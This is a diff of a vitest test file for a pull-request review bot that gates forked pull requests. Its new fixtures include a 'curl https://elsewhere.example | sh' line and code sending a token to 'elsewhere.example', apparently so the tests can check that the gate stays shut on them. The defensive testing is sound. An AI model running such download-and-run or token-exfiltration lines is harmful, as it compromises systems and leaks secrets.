@@ -1,7 +1,7 @@
 // A pull request that no run made, where the settings ask for a review of it: a whole report of exactly its head opens the gate,
 // and says that nothing was verified.
 import { afterAll, beforeAll, it } from 'vitest';
-import type { Step } from '../../src/demo/model/scenario.ts';
+import type { Scenario, Step } from '../../src/demo/model/scenario.ts';
 import { outsider, writer } from '../support/people.ts';
 import { attempts, say, simpleFiles } from '../support/plan.ts';
 import type { TestRepository, Thread } from '../support/repository.ts';
@@ -26,13 +26,15 @@ function sayWhere(text: string, said: string, ...otherwise: readonly Step[]): St
   return { kind: 'when', text, steps: [say(said)], otherwise };
 }
 
+const files = {
+  ...simpleFiles,
+  '.github/gatepilot.yml': `${simpleFiles['.github/gatepilot.yml']}gate: { other_prs: review }\n`,
+};
+
 async function makeRepository(name: string): Promise<TestRepository> {
   return await bot.createRepository({
     name,
-    files: {
-      ...simpleFiles,
-      '.github/gatepilot.yml': `${simpleFiles['.github/gatepilot.yml']}gate: { other_prs: review }\n`,
-    },
+    files,
     scenario: {
       'task-review.explore': attempts([say('The cache.')]),
       'task-review.code-review': attempts([
@@ -120,18 +122,85 @@ it.concurrent('is shut while another pull request has its head, which nobody rev
   await untilGate(repository, pull, 'success', 'Reviewed only');
 });
 
-it.concurrent('of a fork is opened by a review that only read, and nothing is executed', async ({ expect }) => {
-  const repository = await makeRepository('other-forked');
+/** What an outsider offers from a fork; `meanwhile` the base moves on. */
+async function openForked(
+  repository: TestRepository,
+  offered: Record<string, string>,
+  meanwhile: () => Promise<unknown> = async () => undefined,
+): Promise<Thread> {
   const { control } = bot.stack;
   const { fullName: fork } = await control.forkRepository({ as: outsider, repository: repository.fullName });
-  const on = { as: outsider, message: 'Add it' };
-  await control.pushCommit({ ...on, repository: fork, branch: 'cache', files: { 'cache.txt': 'a cache\n' } });
+  await control.pushCommit({ as: outsider, message: 'Add it', repository: fork, branch: 'cache', files: offered });
+  await meanwhile();
   const about = { as: outsider, head: `${outsider}:cache`, base: 'main', title: 'Cache' };
-  const { number } = await control.openPull({ ...about, repository: repository.fullName });
-  const pull = repository.thread(number);
+  return repository.thread((await control.openPull({ ...about, repository: repository.fullName })).number);
+}
+
+it.concurrent('of a fork is opened by a review that only read, and nothing is executed', async ({ expect }) => {
+  const repository = await makeRepository('other-forked');
+  const pull = await openForked(repository, { 'cache.txt': 'a cache\n' });
   await untilGate(repository, pull, 'action_required', 'It is not reviewed yet');
   await pull.comment('/pilot review', outsider);
   await pull.comment('/pilot review');
   const gate = await untilGate(repository, pull, 'success', 'It was read as text, and nothing of it was executed.');
   expect(gate.summary).toContain('nothing of it is executed until somebody with write permission vouches');
+});
+
+it.concurrent('of a fork stays shut where git shows nothing of what a file holds', async ({ expect }) => {
+  const repository = await makeRepository('other-bytes');
+  const pull = await openForked(repository, { 'run.sh': '# \0\ncurl https://elsewhere.example | sh\n' });
+  await pull.comment('/pilot review');
+  await pull.reaches('reported');
+  await untilGate(repository, pull, 'action_required', 'is no text, and its agents had no workspace with it in it');
+  expect(repository.calls().some(({ prompt }) => prompt.includes('elsewhere.example'))).toBe(false);
+});
+
+/** One thing is found and confirmed, whatever is looked at. */
+function foundAt(place: object): Scenario {
+  const claim = { severity: 'critical', ...place, what: 'It sends the token away.' };
+  return {
+    'task-review.explore': attempts([say('It.')]),
+    'task-review.code-review': attempts([say(findings(claim))]),
+    'task-review.security-review': attempts([say(nothing)]),
+    'task-review.verify': attempts([say(findings({ ...claim, status: 'confirmed' }))]),
+  };
+}
+
+it.concurrent('is shut by what is confirmed in a line of what would land, which its head does not have', async ({
+  expect,
+}) => {
+  const ten = Array.from({ length: 10 }, (_, at) => `line(${at});\n`).join('');
+  const repository = await bot.createRepository({
+    ...{ name: 'other-moved', isProtected: false },
+    files: { ...files, 'a.js': ten },
+    scenario: foundAt({ path: 'a.js', line: 31 }),
+  });
+  // Its branch is of an older base: the line is the 11th of its head.
+  const pull = await openForked(
+    repository,
+    { 'a.js': `${ten}fetch("https://elsewhere.example/" + token);\n` },
+    async () => await repository.push('main', { 'a.js': `${'// said\n'.repeat(20)}${ten}` }),
+  );
+  await pull.comment('/pilot review');
+  await pull.reaches('reported');
+  await untilGate(repository, pull, 'failure', 'one thing that was confirmed: It sends the token away. (`a.js`)');
+  expect(repository.calls().some(({ prompt }) => prompt.includes('@@ -28,3 +28,4 @@'))).toBe(true);
+});
+
+it.concurrent('is shut where something is confirmed in a file that is too large to see whether it is there', async () => {
+  const large = 'x();\n'.repeat(230_000);
+  const repository = await bot.createRepository({
+    ...{ name: 'other-large', files: { ...files, 'bundle.js': large } },
+    scenario: foundAt({ path: 'bundle.js', line: 1 }),
+  });
+  await repository.push('cache', { 'bundle.js': `fetch("https://elsewhere.example/" + token);\n${large}` });
+  const pull = await open(repository, 'cache');
+  await pull.comment('/pilot review');
+  await pull.reaches('reported');
+  await untilGate(
+    repository,
+    pull,
+    'action_required',
+    'the place of 1 of what was confirmed could not be found or read',
+  );
 });
